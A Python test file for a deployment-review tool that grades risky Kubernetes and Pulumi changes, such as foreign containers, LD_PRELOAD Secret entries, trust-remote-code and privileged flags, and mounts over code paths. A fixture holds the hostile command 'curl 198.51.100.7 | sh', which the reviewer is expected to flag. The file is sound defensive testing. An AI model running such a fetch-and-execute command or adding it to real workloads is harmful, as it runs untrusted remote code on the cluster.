"""Dangers in what a review cannot read, and behind names and objects that look ordinary."""

import copy
from dataclasses import replace
from typing import Any

import pytest

from nim_component.local.markers import UNKNOWN
from nim_component.review.change import Change, ResourceState, ServiceChange, StackChange, group_services
from nim_component.review.sentences import plain_text
from nim_component.review.stack_review import review
from nim_component.review.values import redact_inputs

from .changes import LORA, deployment, kubernetes_object, render_service, review_renders
from .test_dangers import (
    BASE,
    CRITICAL,
    EFFECTS,
    NOTICE,
    RANKS,
    TO_ALL,
    WARNING,
    binding,
    config_map,
    container,
    pod,
    policy,
    role,
    severity,
    state,
    variable,
)
from .test_unlisted_fields import Manifest, monitored, of, pods_with

COMPONENT = "urn:pulumi:dev::nim::nim:index:NIMService::llama"
PROGRAM: list[Manifest] = [{"name": "x", "image": "docker.io/acme/x:1", "command": ["sh", "-c", "curl 198.51.100.7 | sh"]}]
SECRET = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "value": "x"}


def of_service(*pairs: tuple[Manifest | None, Manifest | None], is_new: bool = False, **after: Any) -> str:
    """Return the highest severity of changes of objects that belong to a component."""
    own = ResourceState(COMPONENT, "nim:index:NIMService", "llama", "", {})
    changes = [Change("create" if is_new else "update", None if is_new else own, replace(own, inputs=after))]
    for pair in pairs:
        old, new = (each and replace(state(each), parent=COMPONENT) for each in pair)
        changes.append(Change("update" if old and new else "create" if new else "delete", old or None, new or None))
    found = review(StackChange("dev", "local renders", [ServiceChange("llama", changes)])).findings
    return min((each.severity.value for each in found if each.rule not in EFFECTS), key=RANKS.index, default="")


def workload(kind: str, containers: list[Manifest]) -> Manifest:
    return kubernetes_object(kind, "apps/v1", {"template": {"spec": {"containers": containers}}}, "helper")


@pytest.mark.parametrize("is_new", [False, True])
@pytest.mark.parametrize("kind", ["Deployment", "Job"])
def test_foreign_program_of_service_is_warning(kind: str, is_new: bool):
    assert of_service((None, workload(kind, PROGRAM)), is_new=is_new) == WARNING


def test_new_service_shows_its_other_programs():
    added = deployment()
    added["spec"]["template"]["spec"]["containers"] += PROGRAM
    assert of_service((None, added), is_new=True) == WARNING
    assert of_service((None, container(command=["sh", "-c", "id"])), is_new=True) == WARNING
    assert of_service((None, {**deployment(), "spec": UNKNOWN})) == WARNING


@pytest.mark.parametrize("fields", [{}, LORA, {**LORA, "lora": {"refresh_interval": 60, "volume": {"size": "10Gi"}}}])
def test_own_programs_of_new_service_are_none(fields: Manifest):
    found = review_renders(None, render_service(**fields)).findings
    assert [plain_text(each.text) for each in found if each.rule == "created" and each.severity.value != NOTICE] == []


def from_secret(name: str, secret: str) -> Manifest:
    return container(env=[{"name": name, "valueFrom": {"secretKeyRef": {"name": secret, "key": "a"}}}])


def scheduled(body: Manifest) -> Manifest:
    return kubernetes_object("CronJob", "batch/v1", {"jobTemplate": {"spec": body["spec"]}})


def mounting(source: Manifest, path: str) -> Manifest:
    return deployment(container={"volumeMounts": [{"name": "x", "mountPath": path}]}, pod={"volumes": [{"name": "x", **source}]})


def secret(*names: str) -> Manifest:
    return {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}, "data": {name: f"v{len(names)}" for name in names}}


def annotated(**annotations: str) -> Manifest:
    changed = copy.deepcopy(BASE)
    changed["metadata"]["annotations"] = annotations
    return changed


CASES: dict[str, tuple[Manifest | None, Manifest, str]] = {
    "endpoint in a Secret": (BASE, from_secret("HF_ENDPOINT", "s"), CRITICAL),
    "key of a CronJob": (scheduled(from_secret("HF_TOKEN", "a")), scheduled(from_secret("HF_TOKEN", "b")), WARNING),
    "variable in a ConfigMap": (BASE, container(env=[{"name": "X", "valueFrom": {"configMapKeyRef": {"name": "a", "key": "b"}}}]), WARNING),
    "variable of the pod": (BASE, container(env=[{"name": "X", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}}]), NOTICE),
    "entry of a Secret": (secret("a"), secret("a", "LD_PRELOAD"), WARNING),
    "file of a Secret": (secret("x.py"), secret("x.py", "a"), WARNING),
    "token in a Secret": (secret("token"), secret("token", "user"), NOTICE),
    "unknown variables": (BASE, container(env=UNKNOWN), WARNING),
    "unknown variable": (variable("X", "1"), container(env=[{"name": "X", "value": UNKNOWN}]), WARNING),
    "secret variables": (BASE, container(env=SECRET), WARNING),
    "secret key": (variable("HF_TOKEN", "a"), container(env=[{"name": "HF_TOKEN", "value": SECRET}]), NOTICE),
    "unknown probe": (BASE, container(livenessProbe=UNKNOWN), WARNING),
    "unknown rules": (None, {**role("ClusterRole"), "rules": UNKNOWN}, WARNING),
    "unknown subjects": (None, {**binding("RoleBinding", "view", "a"), "subjects": UNKNOWN}, WARNING),
    "targets of a monitor": (None, monitored(relabelings=[{"targetLabel": "__address__", "replacement": "x.example.com"}]), WARNING),
    "token of a monitor": (None, monitored(bearerTokenFile="/var/run/secrets/token"), WARNING),
    "label of a monitor": (None, monitored(relabelings=[{"targetLabel": "service", "replacement": "llama"}]), NOTICE),
    "directory over code": (BASE, mounting({"emptyDir": {}}, "/usr/lib/python3"), WARNING),
    "directory for data": (BASE, mounting({"emptyDir": {}}, "/tmp"), NOTICE),
    "empty rules": (mounting({"configMap": {"name": "a"}}, "/etc/auth"), mounting({"emptyDir": {}}, "/etc/auth"), WARNING),
    "removed rules": (mounting({"configMap": {"name": "a"}}, "/etc/auth"), BASE, WARNING),
    "label for a mesh": (BASE, pods_with(labels={"istio.io/dataplane-mode": "none"}), WARNING),
    "own label": (BASE, pods_with(labels={"team": "a"}), NOTICE),
    "automatic images": (BASE, annotated(**{"keel.sh/policy": "all"}), WARNING),
    "own annotation": (BASE, annotated(note="a", **{"docs.example.com/page": "b"}), NOTICE),
    "address of a pod": (BASE, pod(hostname="primary", subdomain="db"), WARNING),
    "gate": (BASE, pod(schedulingGates=[{"name": "x"}]), WARNING),
    "remote code in a file": (config_map(**{"a.yaml": "x: 1"}), config_map(**{"a.yaml": "x: 1\ntrust-remote-code: true"}), WARNING),
    "host without a scheme": (config_map(**{"a.yaml": "address: a.x.io"}), config_map(**{"a.yaml": "address: b.x.io"}), WARNING),
    "host with a port": (config_map(**{"a.conf": "to a.x.io:443;"}), config_map(**{"a.conf": "to b.x.io:443;"}), WARNING),
    "file with rules": (config_map(**{"auth.yaml": "enabled: true"}), config_map(**{"auth.yaml": "enabled: false"}), WARNING),
    "pod in a file": (config_map(**{"a.yaml": "x: 1"}), config_map(**{"a.yaml": "x: 1\nprivileged: true"}), WARNING),
    "text in a file": (config_map(**{"a.yaml": "x: 1"}), config_map(**{"a.yaml": "x: 2 # see 3.1"}), NOTICE),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_disguised_danger_is_a_finding(name: str):
    old, new, expected = CASES[name]
    assert severity(old, new) == expected


def test_policy_beside_an_omitted_one_is_warning():
    assert of_service((None, policy("other", **TO_ALL)), network_policy={}) == NOTICE
    assert of_service((None, policy("other", **TO_ALL))) == WARNING
    assert of_service((None, policy("other", podSelector={}, **TO_ALL)), network_policy={}) == WARNING


@pytest.mark.parametrize("kind", ["StorageClass", "PersistentVolume", "IngressClass"])
def test_fields_of_replacement_are_reported(kind: str):
    change = Change("replace", state(of(kind, server="a")), state(of(kind, server="b")), "create-before-delete", ("spec.server",))
    found = review(StackChange("dev", "local renders", group_services([change]))).findings
    assert [(each.severity.value, plain_text(each.text)) for each in found if each.rule == "other"] == [
        (WARNING, f"{kind} llama: server: a → b.")
    ]


@pytest.mark.parametrize(
    ("type_", "custom", "expected"),
    [
        ("command:local:Command", True, WARNING),
        ("aws:iam/rolePolicyAttachment:RolePolicyAttachment", True, WARNING),
        ("random:index/randomId:RandomId", True, NOTICE),
        ("acme:index:Group", False, NOTICE),
    ],
)
def test_objects_of_other_providers_are_warnings(type_: str, custom: bool, expected: str):
    def state_of(value: str) -> ResourceState:
        return ResourceState(f"urn:pulumi:dev::nim::{type_}::x", type_, "x", "", redact_inputs(type_, {"create": value}), custom=custom)

    for change in (Change("create", None, state_of("a")), Change("update", state_of("a"), state_of("b"))):
        found = review(StackChange("dev", "local renders", group_services([change]))).findings
        assert [each.severity.value for each in found] == [expected]
